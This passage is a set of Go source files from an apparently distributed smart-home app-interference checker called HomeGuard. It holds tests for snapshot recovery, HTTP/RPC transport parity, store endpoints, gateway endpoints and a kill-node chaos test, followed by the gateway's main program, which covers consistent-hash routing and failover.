	raw[len(raw)/2] ^= 0x20
	if err := os.WriteFile(path, raw, 0o644); err != nil {
		t.Fatal(err)
	}
	damaged := newServer(fleet.Options{Shards: 4})
	loadSnapshot(path, damaged.fleet) // must not panic or fail the process
	if code, _ := doJSON(t, damaged, "POST", "/homes/d/install", map[string]any{"corpus": "ComfortTV"}); code != http.StatusOK {
		t.Errorf("daemon with damaged snapshot cannot serve: status %d", code)
	}
}
