package main

import (
	"context"
	"encoding/json"
	"errors"
	"net"
	"reflect"
	"testing"

	"homeguard/internal/api"
	"homeguard/internal/fleet"
	"homeguard/internal/rpc"
)

// TestTransportParity drives the SAME operation sequence through the
// HTTP edge and the RPC edge (each over its own fleet) and asserts the
// two transports agree on every payload and every error: identical
// threat verdicts, identical envelope codes, and HTTP statuses that
// are exactly the envelope code's HTTPStatus mapping. This is the
// contract that lets clients switch transports without behavior drift.
func TestTransportParity(t *testing.T) {
	httpSrv := newServer(fleet.Options{Shards: 4})

	rpcBack := newServer(fleet.Options{Shards: 4})
	lis, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	edge := rpc.NewServer(rpcBack.svc, rpc.ServerOptions{})
	go edge.Serve(lis)
	defer edge.Close()
	client, err := rpc.Dial(lis.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer client.Close()
	ctx := context.Background()

	// step runs one operation on both edges and returns the two
	// (payload, code) outcomes; payload is nil on error.
	type outcome struct {
		body map[string]any
		code api.Code
	}
	viaHTTP := func(method, path string, body any) outcome {
		status, resp := doJSON(t, httpSrv, method, path, body)
		if errObj, ok := resp["error"].(map[string]any); ok {
			code := api.Code(errObj["code"].(string))
			if want := code.HTTPStatus(); status != want {
				t.Errorf("HTTP %s %s: status %d for code %s, want %d", method, path, status, code, want)
			}
			return outcome{code: code}
		}
		return outcome{body: resp, code: api.CodeOK}
	}
	viaRPC := func(resp any, err error) outcome {
		if err != nil {
			var aerr *api.Error
			if !errors.As(err, &aerr) {
				t.Fatalf("RPC returned a non-envelope error: %v", err)
			}
			return outcome{code: aerr.Code}
		}
		b, merr := json.Marshal(resp)
		if merr != nil {
			t.Fatal(merr)
		}
		var m map[string]any
		if err := json.Unmarshal(b, &m); err != nil {
			t.Fatal(err)
		}
		return outcome{body: m, code: api.CodeOK}
	}
	check := func(name string, h, r outcome) {
		t.Helper()
		if h.code != r.code {
			t.Errorf("%s: HTTP code %s != RPC code %s", name, h.code, r.code)
			return
		}
		if !reflect.DeepEqual(h.body, r.body) {
			hb, _ := json.Marshal(h.body)
			rb, _ := json.Marshal(r.body)
			t.Errorf("%s: payloads diverge\n  http: %s\n  rpc:  %s", name, hb, rb)
		}
	}

	steps := []struct {
		name string
		http func() outcome
		rpc  func() outcome
	}{
		{"install ComfortTV", func() outcome {
			return viaHTTP("POST", "/homes/h1/install", map[string]any{"corpus": "ComfortTV"})
		}, func() outcome {
			return viaRPC(client.Install(ctx, &api.InstallRequest{Home: "h1", Corpus: "ComfortTV"}))
		}},
		{"install ColdDefender (threats)", func() outcome {
			return viaHTTP("POST", "/homes/h1/install", map[string]any{"corpus": "ColdDefender"})
		}, func() outcome {
			return viaRPC(client.Install(ctx, &api.InstallRequest{Home: "h1", Corpus: "ColdDefender"}))
		}},
		{"duplicate install", func() outcome {
			return viaHTTP("POST", "/homes/h1/install", map[string]any{"corpus": "ComfortTV"})
		}, func() outcome {
			return viaRPC(client.Install(ctx, &api.InstallRequest{Home: "h1", Corpus: "ComfortTV"}))
		}},
		{"unknown corpus", func() outcome {
			return viaHTTP("POST", "/homes/h1/install", map[string]any{"corpus": "NoSuchApp"})
		}, func() outcome {
			return viaRPC(client.Install(ctx, &api.InstallRequest{Home: "h1", Corpus: "NoSuchApp"}))
		}},
		{"empty install body", func() outcome {
			return viaHTTP("POST", "/homes/h1/install", map[string]any{})
		}, func() outcome {
			return viaRPC(client.Install(ctx, &api.InstallRequest{Home: "h1"}))
		}},
		{"install batch", func() outcome {
			return viaHTTP("POST", "/homes/h2/install-batch", map[string]any{
				"items": []map[string]any{{"corpus": "ComfortTV"}, {"corpus": "NoSuchApp"}},
			})
		}, func() outcome {
			return viaRPC(client.InstallBatch(ctx, &api.InstallBatchRequest{
				Home:  "h2",
				Items: []api.InstallItem{{Corpus: "ComfortTV"}, {Corpus: "NoSuchApp"}},
			}))
		}},
		{"reconfigure", func() outcome {
			return viaHTTP("POST", "/homes/h1/reconfigure", map[string]any{"app": "ColdDefender"})
		}, func() outcome {
			return viaRPC(client.Reconfigure(ctx, &api.ReconfigureRequest{Home: "h1", App: "ColdDefender"}))
		}},
		{"reconfigure unknown app", func() outcome {
			return viaHTTP("POST", "/homes/h1/reconfigure", map[string]any{"app": "Ghost"})
		}, func() outcome {
			return viaRPC(client.Reconfigure(ctx, &api.ReconfigureRequest{Home: "h1", App: "Ghost"}))
		}},
		{"threats", func() outcome {
			return viaHTTP("GET", "/homes/h1/threats", nil)
		}, func() outcome {
			return viaRPC(client.Threats(ctx, &api.ThreatsRequest{Home: "h1"}))
		}},
		{"threats unknown home", func() outcome {
			return viaHTTP("GET", "/homes/ghost/threats", nil)
		}, func() outcome {
			return viaRPC(client.Threats(ctx, &api.ThreatsRequest{Home: "ghost"}))
		}},
		{"accept", func() outcome {
			return viaHTTP("POST", "/homes/h1/accept", map[string]any{"threats": []int{0}})
		}, func() outcome {
			return viaRPC(client.Accept(ctx, &api.AcceptRequest{Home: "h1", Threats: []int{0}}))
		}},
		{"accept out of range", func() outcome {
			return viaHTTP("POST", "/homes/h1/accept", map[string]any{"threats": []int{99}})
		}, func() outcome {
			return viaRPC(client.Accept(ctx, &api.AcceptRequest{Home: "h1", Threats: []int{99}}))
		}},
		{"active threats", func() outcome {
			return viaHTTP("GET", "/homes/h1/threats?active=true", nil)
		}, func() outcome {
			return viaRPC(client.Threats(ctx, &api.ThreatsRequest{Home: "h1", Active: true}))
		}},
		{"apps", func() outcome {
			return viaHTTP("GET", "/homes/h1/apps", nil)
		}, func() outcome {
			return viaRPC(client.Apps(ctx, "h1"))
		}},
	}
	for _, s := range steps {
		check(s.name, s.http(), s.rpc())
	}

	// Both fleets processed the identical sequence: their metrics agree
	// on the load-bearing counters.
	hm, rm := httpSrv.fleet.Metrics(), rpcBack.fleet.Metrics()
	if hm.Installs != rm.Installs || hm.Reconfigures != rm.Reconfigures ||
		hm.InstallConflicts != rm.InstallConflicts || !reflect.DeepEqual(hm.ThreatsByKind, rm.ThreatsByKind) {
		t.Errorf("fleet metrics diverge:\n  http: installs=%d reconf=%d conflicts=%d threats=%v\n  rpc:  installs=%d reconf=%d conflicts=%d threats=%v",
			hm.Installs, hm.Reconfigures, hm.InstallConflicts, hm.ThreatsByKind,
			rm.Installs, rm.Reconfigures, rm.InstallConflicts, rm.ThreatsByKind)
	}
}
