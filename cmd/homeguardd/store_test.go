package main

import (
	"net/http"
	"testing"

	"homeguard/internal/fleet"
)

func TestDaemonStoreEndpoints(t *testing.T) {
	srv := newServer(fleet.Options{Shards: 4})

	// Submitting the known interference pair yields revision 1 with an
	// added-findings delta.
	code, resp := doJSON(t, srv, "POST", "/store/apps", map[string]any{
		"upserts": []map[string]any{{"corpus": "ComfortTV"}, {"corpus": "ColdDefender"}},
	})
	if code != http.StatusOK {
		t.Fatalf("submit: status %d, resp %v", code, resp)
	}
	if rev := resp["rev"]; rev != float64(1) {
		t.Errorf("rev = %v, want 1", rev)
	}
	if apps := resp["apps"]; apps != float64(2) {
		t.Errorf("apps = %v, want 2", apps)
	}
	added, _ := resp["added"].([]any)
	if len(added) == 0 {
		t.Fatal("submission reported no added findings")
	}
	first := added[0].(map[string]any)
	for _, field := range []string{"app1", "app2"} {
		if first[field] == "" || first[field] == nil {
			t.Errorf("finding JSON missing %q: %v", field, first)
		}
	}

	// The findings feed from rev 0 replays the delta.
	code, resp = doJSON(t, srv, "GET", "/store/findings?since=0", nil)
	if code != http.StatusOK {
		t.Fatalf("findings: status %d, resp %v", code, resp)
	}
	if rev := resp["rev"]; rev != float64(1) {
		t.Errorf("feed rev = %v, want 1", rev)
	}
	if feedAdded, _ := resp["added"].([]any); len(feedAdded) != len(added) {
		t.Errorf("feed replayed %d findings, submit reported %d", len(feedAdded), len(added))
	}

	// Removing one side resolves its findings in the next delta.
	code, resp = doJSON(t, srv, "POST", "/store/apps", map[string]any{
		"removes": []string{"ColdDefender"},
	})
	if code != http.StatusOK {
		t.Fatalf("remove: status %d, resp %v", code, resp)
	}
	if resolved, _ := resp["resolved"].([]any); len(resolved) == 0 {
		t.Errorf("remove resolved no findings: %v", resp)
	}
	code, resp = doJSON(t, srv, "GET", "/store/findings?since=1", nil)
	if code != http.StatusOK {
		t.Fatalf("findings since 1: status %d, resp %v", code, resp)
	}
	if resolved, _ := resp["resolved"].([]any); len(resolved) == 0 {
		t.Errorf("feed since 1 carries no resolved findings: %v", resp)
	}

	// A malformed since parameter is a client error.
	code, resp = doJSON(t, srv, "GET", "/store/findings?since=banana", nil)
	if code != http.StatusBadRequest {
		t.Errorf("bad since: status %d, resp %v; want 400", code, resp)
	}

	// An empty batch is a client error too.
	code, resp = doJSON(t, srv, "POST", "/store/apps", map[string]any{})
	if code != http.StatusBadRequest {
		t.Errorf("empty batch: status %d, resp %v; want 400", code, resp)
	}
}
