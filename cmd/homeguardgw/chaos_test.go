package main

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"os/exec"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"homeguard/internal/api"
	"homeguard/internal/cluster"
)

// TestClusterKillNodeChaos is the PR's headline guarantee, end to end:
// a 2-node fleet of REAL homeguardd processes (separate WALs, -fsync
// always) takes a live install storm through the gateway router while
// one node is kill -9'd mid-storm. Afterwards every operation the
// gateway acknowledged must still be served — the dead node's homes
// re-adopted onto the survivor from the gateway journal — and the
// error burst must have ended (acks resume after failover).
func TestClusterKillNodeChaos(t *testing.T) {
	if testing.Short() {
		t.Skip("subprocess chaos test skipped in -short")
	}
	root, err := filepath.Abs("../..")
	if err != nil {
		t.Fatal(err)
	}
	bin := filepath.Join(t.TempDir(), "homeguardd")
	build := exec.Command("go", "build", "-o", bin, "./cmd/homeguardd")
	build.Dir = root
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("build homeguardd: %v\n%s", err, out)
	}

	nodeA := startDaemon(t, bin, "node-a")
	nodeB := startDaemon(t, bin, "node-b")

	ring, err := cluster.NewRing([]cluster.Node{
		{ID: "node-a", Addr: nodeA.rpcAddr},
		{ID: "node-b", Addr: nodeB.rpcAddr},
	}, 0)
	if err != nil {
		t.Fatal(err)
	}
	rt := newRouter(routerOptions{
		Ring:      ring,
		FailAfter: 2,
		Retry: cluster.RetryOptions{
			Attempts: 6, BaseDelay: 10 * time.Millisecond, Budget: 3 * time.Second,
		},
	})
	t.Cleanup(rt.close)
	hbCtx, hbCancel := context.WithCancel(context.Background())
	defer hbCancel()
	go rt.heartbeat(hbCtx, 50*time.Millisecond)

	// The storm: workers install distinct (home, app) pairs through the
	// gateway and record exactly what was acknowledged.
	apps := []string{"ComfortTV", "ColdDefender", "CatchLiveShow", "BurglarFinder", "NightCare"}
	type ack struct{ home, app string }
	var (
		mu         sync.Mutex
		acked      []ack
		ackedAfter int // acks recorded after the kill
		errs       int
		killed     bool
	)
	stop := make(chan struct{})
	var wg sync.WaitGroup
	for w := 0; w < 4; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; ; i++ {
				select {
				case <-stop:
					return
				default:
				}
				home := fmt.Sprintf("chaos-w%d-h%d", w, i/len(apps))
				app := apps[i%len(apps)]
				ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
				_, aerr := rt.Install(ctx, &api.InstallRequest{Home: home, Corpus: app})
				cancel()
				mu.Lock()
				if aerr == nil {
					acked = append(acked, ack{home, app})
					if killed {
						ackedAfter++
					}
				} else {
					errs++
				}
				mu.Unlock()
			}
		}(w)
	}

	time.Sleep(400 * time.Millisecond)
	mu.Lock()
	killed = true
	preKill := len(acked)
	mu.Unlock()
	if preKill == 0 {
		t.Error("storm produced no acks before the kill")
	}
	nodeA.kill9()
	t.Logf("killed node-a with SIGKILL after %d acks", preKill)

	// Keep the storm running through detection (fail-after 2 at a 50ms
	// heartbeat) and past it, so post-failover acks accumulate.
	time.Sleep(2 * time.Second)
	close(stop)
	wg.Wait()

	mu.Lock()
	total, after, errCount := len(acked), ackedAfter, errs
	mu.Unlock()
	t.Logf("storm: %d acked (%d after kill), %d errored", total, after, errCount)
	if rt.tracker.Up("node-a") {
		t.Error("heartbeat never declared node-a down")
	}
	if after == 0 {
		t.Error("no acks after the kill: the error burst never ended")
	}

	// Zero acked ops lost: every acknowledged install must be served,
	// including homes that lived on the dead node.
	missing := 0
	for _, a := range acked {
		ctx, cancel := context.WithTimeout(context.Background(), 15*time.Second)
		resp, aerr := rt.Apps(ctx, a.home)
		cancel()
		if aerr != nil {
			t.Errorf("acked home %s unreadable after failover: %v", a.home, aerr)
			missing++
			continue
		}
		found := false
		for _, name := range resp.Apps {
			if name == a.app {
				found = true
				break
			}
		}
		if !found {
			t.Errorf("acked install %s/%s lost after failover (has %v)", a.home, a.app, resp.Apps)
			missing++
		}
		if missing > 5 {
			t.Fatal("too many lost acks, aborting enumeration")
		}
	}

	// Reassigned homes serve /threats through the gateway.
	checked := 0
	for _, a := range acked {
		if ring.Owner(a.home).ID != "node-a" {
			continue
		}
		ctx, cancel := context.WithTimeout(context.Background(), 15*time.Second)
		thr, aerr := rt.Threats(ctx, &api.ThreatsRequest{Home: a.home})
		cancel()
		if aerr != nil || thr.HomeID != a.home {
			t.Fatalf("reassigned home %s does not serve threats: %v %v", a.home, thr, aerr)
		}
		checked++
		if checked >= 3 {
			break
		}
	}
	if checked == 0 {
		t.Error("storm never touched a node-a home; widen it")
	}
	if got := rt.failovers.Value(); got < 1 {
		t.Errorf("failovers counter = %d, want >= 1", got)
	}
}

// daemon is one homeguardd subprocess with its own WAL dir.
type daemon struct {
	t        *testing.T
	cmd      *exec.Cmd
	httpAddr string
	rpcAddr  string
}

func startDaemon(t *testing.T, bin, id string) *daemon {
	t.Helper()
	httpAddr, rpcAddr := freeAddr(t), freeAddr(t)
	cmd := exec.Command(bin,
		"-addr", httpAddr,
		"-rpc-addr", rpcAddr,
		"-node-id", id,
		"-wal-dir", filepath.Join(t.TempDir(), id+"-wal"),
		"-fsync", "always",
		"-shards", "4",
	)
	if err := cmd.Start(); err != nil {
		t.Fatalf("start %s: %v", id, err)
	}
	d := &daemon{t: t, cmd: cmd, httpAddr: httpAddr, rpcAddr: rpcAddr}
	t.Cleanup(func() {
		if cmd.Process != nil {
			cmd.Process.Kill()
		}
		cmd.Wait()
	})
	deadline := time.Now().Add(15 * time.Second)
	for {
		resp, err := http.Get("http://" + httpAddr + "/readyz")
		if err == nil {
			resp.Body.Close()
			if resp.StatusCode == http.StatusOK {
				return d
			}
		}
		if time.Now().After(deadline) {
			t.Fatalf("daemon %s never became ready on %s", id, httpAddr)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// kill9 is the crash: SIGKILL, no drain, no checkpoint.
func (d *daemon) kill9() {
	d.t.Helper()
	if err := d.cmd.Process.Kill(); err != nil {
		d.t.Fatalf("kill -9: %v", err)
	}
	d.cmd.Wait()
}

func freeAddr(t *testing.T) string {
	t.Helper()
	lis, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := lis.Addr().String()
	lis.Close()
	return addr
}
