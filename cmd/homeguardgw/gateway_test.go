package main

import (
	"bytes"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"homeguard/internal/cluster"
)

// TestGatewayHTTPEdge drives the daemon-compatible HTTP surface plus
// the cluster admin endpoints through the real mux.
func TestGatewayHTTPEdge(t *testing.T) {
	na, nb := startNode(t, "node-a"), startNode(t, "node-b")
	r := newTestRouter(t, na, nb)
	g := newGateway(r, r.obs)
	ts := httptest.NewServer(g.mux)
	defer ts.Close()

	post := func(path string, body any) *http.Response {
		t.Helper()
		b, _ := json.Marshal(body)
		resp, err := http.Post(ts.URL+path, "application/json", bytes.NewReader(b))
		if err != nil {
			t.Fatal(err)
		}
		return resp
	}
	get := func(path string) *http.Response {
		t.Helper()
		resp, err := http.Get(ts.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		return resp
	}
	decode := func(resp *http.Response, into any) {
		t.Helper()
		defer resp.Body.Close()
		if err := json.NewDecoder(resp.Body).Decode(into); err != nil {
			t.Fatal(err)
		}
	}

	// Same contract as the daemon edge: install, then read back.
	resp := post("/homes/h1/install", map[string]string{"corpus": "ComfortTV"})
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("install status %d", resp.StatusCode)
	}
	var inst struct {
		HomeID string `json:"homeId"`
		App    string `json:"app"`
	}
	decode(resp, &inst)
	if inst.HomeID != "h1" || inst.App == "" {
		t.Fatalf("install response %+v", inst)
	}
	var threats struct {
		HomeID string `json:"homeId"`
	}
	decode(get("/homes/h1/threats"), &threats)
	if threats.HomeID != "h1" {
		t.Fatalf("threats response %+v", threats)
	}

	// Unknown home maps the api error envelope to its HTTP status.
	if resp := get("/homes/ghost/apps"); resp.StatusCode != http.StatusNotFound {
		t.Fatalf("unknown home status %d, want 404", resp.StatusCode)
	} else {
		resp.Body.Close()
	}

	// Cluster admin view.
	var st clusterStatus
	decode(get("/cluster"), &st)
	if st.RingVersion == "" || len(st.Nodes) != 2 {
		t.Fatalf("cluster status %+v", st)
	}
	for _, n := range st.Nodes {
		if !n.Up || n.Breaker != "closed" {
			t.Fatalf("node %s up=%v breaker=%s at boot", n.ID, n.Up, n.Breaker)
		}
	}

	// Planned migration over HTTP, then the pin shows in /cluster.
	resp = post("/admin/migrate", map[string]string{"home": "h1", "to": otherNode(t, r, "h1")})
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("migrate status %d", resp.StatusCode)
	}
	resp.Body.Close()
	decode(get("/cluster"), &st)
	if len(st.Pins) != 1 {
		t.Fatalf("pins after migrate: %+v", st.Pins)
	}
	if resp := post("/admin/migrate", map[string]string{"home": "h1"}); resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("migrate without target: %d, want 400", resp.StatusCode)
	} else {
		resp.Body.Close()
	}

	// Prometheus exposition carries the cluster series.
	promResp := get("/metrics?format=prometheus")
	var sb strings.Builder
	if _, err := sb.WriteString(readAll(t, promResp)); err != nil {
		t.Fatal(err)
	}
	prom := sb.String()
	for _, series := range []string{
		"homeguard_cluster_ring_version",
		"homeguard_cluster_nodes_up 2",
		`homeguard_cluster_node_up{node="node-a"} 1`,
		"homeguard_cluster_migrations_total 1",
	} {
		if !strings.Contains(prom, series) {
			t.Errorf("prometheus exposition missing %q", series)
		}
	}

	// Readiness follows fleet health: all nodes down = 503.
	if resp := get("/readyz"); resp.StatusCode != http.StatusOK {
		t.Fatalf("readyz %d with a live fleet", resp.StatusCode)
	} else {
		resp.Body.Close()
	}
	markDown(r, na)
	markDown(r, nb)
	if resp := get("/readyz"); resp.StatusCode != http.StatusServiceUnavailable {
		t.Fatalf("readyz %d with the fleet down, want 503", resp.StatusCode)
	} else {
		resp.Body.Close()
	}
}

// otherNode names the node h does NOT currently route to.
func otherNode(t *testing.T, r *router, home string) string {
	t.Helper()
	n, aerr := r.route(home)
	if aerr != nil {
		t.Fatal(aerr)
	}
	for _, m := range r.ring.Nodes() {
		if m.ID != n.ID {
			return m.ID
		}
	}
	t.Fatal("single-node ring")
	return ""
}

func readAll(t *testing.T, resp *http.Response) string {
	t.Helper()
	defer resp.Body.Close()
	var buf bytes.Buffer
	if _, err := buf.ReadFrom(resp.Body); err != nil {
		t.Fatal(err)
	}
	return buf.String()
}

// TestParseNodes pins the -nodes flag grammar.
func TestParseNodes(t *testing.T) {
	nodes, err := parseNodes("a=1.2.3.4:81, b=1.2.3.4:82")
	if err != nil || len(nodes) != 2 || nodes[0].ID != "a" || nodes[1].Addr != "1.2.3.4:82" {
		t.Fatalf("parseNodes: %v %v", nodes, err)
	}
	for _, bad := range []string{"", "a", "a=", "=x", "a=1,b"} {
		if _, err := parseNodes(bad); err == nil {
			t.Errorf("parseNodes(%q) accepted", bad)
		}
	}
	// Duplicate IDs are the ring's job to reject.
	dup, err := parseNodes("a=x:1,a=y:2")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := cluster.NewRing(dup, 0); err == nil {
		t.Error("ring accepted duplicate node IDs")
	}
}
