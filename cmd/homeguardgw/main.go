// Command homeguardgw is the HomeGuard cluster gateway: a stateless
// router that serves the daemon's HTTP and HGRPC edges unchanged and
// fans each request out to a fleet of homeguardd nodes by consistent
// hashing over home IDs — so killing any one node degrades boundedly
// instead of taking every home offline.
//
// Usage:
//
//	homeguardgw -nodes node-a=127.0.0.1:8081,node-b=127.0.0.1:8181
//	            [-addr :8090] [-rpc-addr :8091]
//	            [-vnodes 64] [-heartbeat 250ms] [-fail-after 3]
//	            [-retries 3] [-retry-budget 2s]
//	            [-log-format text|json]
//
// # Routing
//
// -nodes lists the fleet as id=rpc-addr pairs; the gateway builds a
// consistent-hash ring (with -vnodes virtual nodes per member) over
// them. Each home ID hashes to one owning node; requests forward over
// pooled HGRPC clients. The ring is versioned from the sorted
// membership, so gateway replicas configured identically route
// identically with no coordination.
//
// # Health, failover, retries
//
// A heartbeat loop pings every node each -heartbeat interval; a node is
// declared down after -fail-after consecutive misses and up again after
// one successful probe. Dead nodes are routed around (the next live
// owner clockwise on the ring) and the gateway's journal of acked
// mutating ops is replayed onto the new owner — tolerating
// ALREADY_EXISTS — before it serves the home, so no acknowledged
// operation is lost to a node death. Per-node circuit breakers shed
// calls to flapping nodes with UNAVAILABLE + retryAfterMs, and a retry
// layer (jittered exponential backoff honoring that hint, bounded by a
// per-request budget) retries idempotent-safe failures: UNAVAILABLE
// always, DEADLINE_EXCEEDED only for reads.
//
// # Planned migration
//
// POST /admin/migrate {"home": "h7", "to": "node-b"} drains the home on
// its current owner (MigrateHome → fleet.DetachHome), replays the
// snapcodec export on the target (AdoptHome → fleet.ImportHome), and
// pins routing — no re-extraction, no re-solving, and the move is
// journaled so a later failover rebuilds the migrated state.
//
// GET /cluster returns the ring version, per-node health/breaker state
// and migration pins. GET /metrics (add ?format=prometheus for text
// exposition) carries the homeguard_cluster_* series — ring version,
// nodes up, failovers, retries, resyncs, migrations — next to the
// standard homeguard_rpc_* series from the gateway's own RPC edge; see
// the root package's Observability section for the catalog. /healthz is
// process liveness; /readyz answers 200 while at least one fleet node
// is passing heartbeats.
package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"log"
	"log/slog"
	"net"
	"net/http"
	"os"
	"os/signal"
	"strconv"
	"strings"
	"syscall"
	"time"

	"homeguard/internal/api"
	"homeguard/internal/cluster"
	"homeguard/internal/obs"
	"homeguard/internal/rpc"
)

const maxBodyBytes = 4 << 20

func main() {
	addr := flag.String("addr", ":8090", "HTTP listen address")
	rpcAddr := flag.String("rpc-addr", ":8091",
		"RPC listen address for the framed gRPC-modeled transport (empty = disabled)")
	nodesSpec := flag.String("nodes", "",
		"fleet membership as id=rpc-addr pairs, comma-separated (required)")
	vnodes := flag.Int("vnodes", cluster.DefaultVirtualNodes, "virtual nodes per member on the hash ring")
	heartbeat := flag.Duration("heartbeat", 250*time.Millisecond, "node ping interval")
	failAfter := flag.Int("fail-after", cluster.DefaultFailAfter,
		"consecutive missed pings before a node is declared down")
	retries := flag.Int("retries", cluster.DefaultAttempts-1,
		"max retries per routed request (idempotent-safe failures only)")
	retryBudget := flag.Duration("retry-budget", cluster.DefaultBudget,
		"cap on total backoff time per routed request")
	logFormat := flag.String("log-format", "text",
		"structured log encoding: text (human-readable) or json (one object per line)")
	flag.Parse()

	nodes, err := parseNodes(*nodesSpec)
	if err != nil {
		log.Fatalf("homeguardgw: -nodes: %v", err)
	}
	ring, err := cluster.NewRing(nodes, *vnodes)
	if err != nil {
		log.Fatalf("homeguardgw: %v", err)
	}

	var logger *slog.Logger
	switch *logFormat {
	case "text":
		logger = slog.New(slog.NewTextHandler(os.Stderr, nil))
	case "json":
		logger = slog.New(slog.NewJSONHandler(os.Stderr, nil))
	default:
		log.Fatalf("homeguardgw: -log-format must be text or json, got %q", *logFormat)
	}
	slog.SetDefault(logger)

	o := obs.NewObserver()
	rt := newRouter(routerOptions{
		Ring:      ring,
		Obs:       o,
		FailAfter: *failAfter,
		Retry:     cluster.RetryOptions{Attempts: *retries + 1, Budget: *retryBudget},
	})
	defer rt.close()

	hbCtx, hbCancel := context.WithCancel(context.Background())
	defer hbCancel()
	go rt.heartbeat(hbCtx, *heartbeat)
	log.Printf("homeguardgw: ring %s over %d nodes (%d vnodes each), heartbeat %v, fail-after %d",
		ring.Version(), ring.NumNodes(), *vnodes, *heartbeat, *failAfter)

	gw := newGateway(rt, o)
	hs := &http.Server{
		Addr:              *addr,
		Handler:           gw.mux,
		ReadHeaderTimeout: 10 * time.Second,
		ReadTimeout:       30 * time.Second,
		WriteTimeout:      60 * time.Second,
		IdleTimeout:       120 * time.Second,
	}
	errCh := make(chan error, 1)
	go func() { errCh <- hs.ListenAndServe() }()
	log.Printf("homeguardgw: gateway listening on %s", *addr)

	var rpcSrv *rpc.Server
	if *rpcAddr != "" {
		lis, err := net.Listen("tcp", *rpcAddr)
		if err != nil {
			log.Fatalf("homeguardgw: rpc listen: %v", err)
		}
		rpcSrv = rpc.NewServer(rt, rpc.ServerOptions{Obs: o})
		go func() {
			if err := rpcSrv.Serve(lis); err != nil {
				log.Printf("homeguardgw: rpc serve: %v", err)
			}
		}()
		log.Printf("homeguardgw: rpc edge listening on %s", *rpcAddr)
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	select {
	case err := <-errCh:
		log.Fatal(err)
	case <-ctx.Done():
	}
	log.Printf("homeguardgw: shutting down")
	shutCtx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if err := hs.Shutdown(shutCtx); err != nil {
		log.Printf("homeguardgw: shutdown: %v", err)
	}
	if rpcSrv != nil {
		if err := rpcSrv.Close(); err != nil {
			log.Printf("homeguardgw: rpc close: %v", err)
		}
	}
}

// parseNodes turns "id=addr,id=addr" into ring membership.
func parseNodes(spec string) ([]cluster.Node, error) {
	if spec == "" {
		return nil, fmt.Errorf("empty (want id=rpc-addr,id=rpc-addr,...)")
	}
	var nodes []cluster.Node
	for _, part := range strings.Split(spec, ",") {
		id, addr, ok := strings.Cut(strings.TrimSpace(part), "=")
		if !ok || id == "" || addr == "" {
			return nil, fmt.Errorf("bad entry %q (want id=rpc-addr)", part)
		}
		nodes = append(nodes, cluster.Node{ID: id, Addr: addr})
	}
	return nodes, nil
}

// gateway serves the daemon-compatible HTTP edge over the router, plus
// the cluster admin endpoints.
type gateway struct {
	rt  *router
	obs *obs.Observer
	mux *http.ServeMux
}

func newGateway(rt *router, o *obs.Observer) *gateway {
	g := &gateway{rt: rt, obs: o, mux: http.NewServeMux()}
	g.mux.HandleFunc("POST /homes/{id}/install", g.handleInstall)
	g.mux.HandleFunc("POST /homes/{id}/install-batch", g.handleInstallBatch)
	g.mux.HandleFunc("POST /homes/{id}/reconfigure", g.handleReconfigure)
	g.mux.HandleFunc("POST /homes/{id}/accept", g.handleAccept)
	g.mux.HandleFunc("GET /homes/{id}/threats", g.handleThreats)
	g.mux.HandleFunc("GET /homes/{id}/apps", g.handleApps)
	g.mux.HandleFunc("POST /store/apps", g.handleStoreApps)
	g.mux.HandleFunc("GET /store/findings", g.handleStoreFindings)
	g.mux.HandleFunc("POST /admin/migrate", g.handleMigrate)
	g.mux.HandleFunc("GET /cluster", g.handleCluster)
	g.mux.HandleFunc("GET /metrics", g.handleMetrics)
	g.mux.HandleFunc("GET /healthz", g.handleHealthz)
	g.mux.HandleFunc("GET /readyz", g.handleReadyz)
	return g
}

func (g *gateway) handleInstall(w http.ResponseWriter, r *http.Request) {
	var req api.InstallRequest
	if !g.decode(w, r, &req) {
		return
	}
	req.Home = r.PathValue("id")
	resp, aerr := g.rt.Install(r.Context(), &req)
	g.respond(w, resp, aerr)
}

func (g *gateway) handleInstallBatch(w http.ResponseWriter, r *http.Request) {
	var req api.InstallBatchRequest
	if !g.decode(w, r, &req) {
		return
	}
	req.Home = r.PathValue("id")
	resp, aerr := g.rt.InstallBatch(r.Context(), &req)
	g.respond(w, resp, aerr)
}

func (g *gateway) handleReconfigure(w http.ResponseWriter, r *http.Request) {
	var req api.ReconfigureRequest
	if !g.decode(w, r, &req) {
		return
	}
	req.Home = r.PathValue("id")
	resp, aerr := g.rt.Reconfigure(r.Context(), &req)
	g.respond(w, resp, aerr)
}

func (g *gateway) handleAccept(w http.ResponseWriter, r *http.Request) {
	var req api.AcceptRequest
	if !g.decode(w, r, &req) {
		return
	}
	req.Home = r.PathValue("id")
	resp, aerr := g.rt.Accept(r.Context(), &req)
	g.respond(w, resp, aerr)
}

func (g *gateway) handleThreats(w http.ResponseWriter, r *http.Request) {
	v := r.URL.Query().Get("active")
	req := api.ThreatsRequest{Home: r.PathValue("id"), Active: v == "true" || v == "1"}
	resp, aerr := g.rt.Threats(r.Context(), &req)
	g.respond(w, resp, aerr)
}

func (g *gateway) handleApps(w http.ResponseWriter, r *http.Request) {
	resp, aerr := g.rt.Apps(r.Context(), r.PathValue("id"))
	g.respond(w, resp, aerr)
}

func (g *gateway) handleStoreApps(w http.ResponseWriter, r *http.Request) {
	var req api.SubmitAppsRequest
	if !g.decode(w, r, &req) {
		return
	}
	resp, aerr := g.rt.SubmitApps(r.Context(), &req)
	g.respond(w, resp, aerr)
}

